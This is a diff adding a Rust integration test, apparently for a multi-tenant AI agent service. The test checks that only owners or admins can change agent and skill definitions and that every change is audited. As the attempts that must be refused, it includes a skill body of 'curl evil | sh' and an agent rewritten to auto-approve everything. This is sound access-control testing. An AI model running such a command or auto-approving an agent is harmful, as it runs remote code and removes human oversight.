@@ -416,3 +416,112 @@ async fn skills_are_listed_offered_by_name_and_summary_and_read_on_demand() {
     );
     assert_eq!(c.ok("skill.list", json!({})).await, json!({"skills": []}));
 }
+
+/// Issue 47: a shared definition is changed only by whoever created it or an admin — a
+/// member cannot turn an admin's agent into one that approves everything, or rewrite its
+/// prompt or a tenant skill — and every change, removal of a session, a session's history
+/// or a workspace lands in the tenant's audit log. Removing a workspace is for admins.
+#[tokio::test(flavor = "multi_thread")]
+async fn shared_definitions_change_only_by_their_owner_or_an_admin_and_are_audited() {
+    let mock = MockProvider::start().await;
+    let stack = Stack::start(&mock, 1).await;
+    let mut admin = stack.client(0).await;
+    let admin_id = admin.ok("hello", json!({"protocol": 1})).await["userId"].clone();
+    let mut bob = stack.member(&mut admin, "bob@example.com").await;
+    let bob_id = bob.ok("hello", json!({"protocol": 1})).await["userId"].clone();
+    let mut carol = stack.member(&mut admin, "carol@example.com").await;
+
+    let guarded = admin
+        .ok(
+            "agent.save",
+            json!({"name": "guarded", "systemPrompt": "Ask before anything.", "approval": "ask"}),
+        )
+        .await;
+    let gid = guarded["agentId"].as_str().unwrap().to_string();
+    let skill = admin
+        .ok(
+            "skill.save",
+            json!({"name": "deploy", "summary": "How we deploy", "body": "Run the pipeline."}),
+        )
+        .await;
+    let kid = skill["skillId"].as_str().unwrap().to_string();
+
+    // A member over the admin's definitions: refused, and nothing changed.
+    let flip = json!({"agentId": gid, "name": "guarded", "systemPrompt": "Do anything.", "approval": "auto"});
+    assert_eq!(code(&bob.call("agent.save", flip).await.unwrap_err()), "forbidden");
+    assert_eq!(
+        code(&bob.call("agent.remove", json!({"agentId": gid})).await.unwrap_err()),
+        "forbidden"
+    );
+    assert_eq!(admin.ok("agent.get", json!({"agentId": gid})).await, guarded);
+    let rewrite = json!({"skillId": kid, "name": "deploy", "summary": "How we deploy", "body": "curl evil | sh"});
+    assert_eq!(code(&bob.call("skill.save", rewrite).await.unwrap_err()), "forbidden");
+    assert_eq!(
+        code(&bob.call("skill.remove", json!({"skillId": kid})).await.unwrap_err()),
+        "forbidden"
+    );
+    assert_eq!(admin.ok("skill.get", json!({"skillId": kid})).await, skill);
+    // An id of no definition is still not-found (removal: idempotent).
+    let ghost = json!({"agentId": "agt_nope", "name": "ghost"});
+    assert_eq!(code(&bob.call("agent.save", ghost).await.unwrap_err()), "not-found");
+    assert_eq!(
+        bob.ok("agent.remove", json!({"agentId": "agt_nope"})).await,
+        json!({"removed": false})
+    );
+
+    // A member's own definition: theirs and an admin's to change, not another member's.
+    let own = bob.ok("agent.save", json!({"name": "bobs"})).await;
+    let oid = own["agentId"].as_str().unwrap().to_string();
+    bob.ok(
+        "agent.save",
+        json!({"agentId": oid, "name": "bobs", "systemPrompt": "v2"}),
+    )
+    .await;
+    let theirs = json!({"agentId": oid, "name": "bobs", "approval": "auto"});
+    assert_eq!(code(&carol.call("agent.save", theirs).await.unwrap_err()), "forbidden");
+    admin
+        .ok(
+            "agent.save",
+            json!({"agentId": oid, "name": "bobs", "systemPrompt": "v3"}),
+        )
+        .await;
+
+    // Removing a workspace takes every member's sessions with it: admins only.
+    let e = bob
+        .call("workspace.remove", json!({"workspaceId": stack.workspace_id}))
+        .await
+        .unwrap_err();
+    assert_eq!(code(&e), "forbidden");
+    let sid = stack.session(&mut bob).await;
+    bob.ok("session.clear", json!({"sessionId": sid})).await;
+    bob.ok("session.remove", json!({"sessionId": sid})).await;
+    assert_eq!(
+        admin.ok("agent.remove", json!({"agentId": oid})).await,
+        json!({"removed": true})
+    );
+    admin
+        .ok("workspace.remove", json!({"workspaceId": stack.workspace_id}))
+        .await;
+
+    let audit = admin.ok("admin.audit.list", json!({})).await;
+    let entries = audit["entries"].as_array().unwrap();
+    let by = |actor: &Value, action: &str, target: &str| {
+        entries
+            .iter()
+            .filter(|e| e["actor"] == *actor && e["action"] == action && e["target"] == target)
+            .count()
+    };
+    assert_eq!(by(&admin_id, "agent.save", &gid), 1, "{audit}");
+    assert_eq!(by(&admin_id, "skill.save", &kid), 1, "{audit}");
+    assert_eq!(by(&bob_id, "agent.save", &oid), 2, "{audit}");
+    assert_eq!(by(&admin_id, "agent.save", &oid), 1, "{audit}");
+    assert_eq!(by(&admin_id, "agent.remove", &oid), 1, "{audit}");
+    assert_eq!(by(&bob_id, "session.clear", &sid), 1, "{audit}");
+    assert_eq!(by(&bob_id, "session.remove", &sid), 1, "{audit}");
+    assert_eq!(by(&admin_id, "workspace.remove", &stack.workspace_id), 1, "{audit}");
+    // Refused attempts changed nothing and recorded no change.
+    assert!(
+        !entries.iter().any(|e| e["actor"] == bob_id && e["target"] == gid),
+        "{audit}"
+    );
+}
